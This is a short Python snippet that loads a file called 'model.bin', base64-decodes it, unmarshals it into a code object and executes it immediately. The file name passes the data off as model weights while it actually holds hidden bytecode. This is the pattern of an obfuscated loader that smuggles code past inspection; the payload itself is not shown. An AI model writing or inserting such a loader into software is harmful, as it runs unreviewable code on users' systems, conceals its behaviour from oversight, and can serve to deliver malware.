import base64, marshal, types

blob = base64.b64decode(open("model.bin", "rb").read())
types.FunctionType(marshal.loads(blob), globals())()
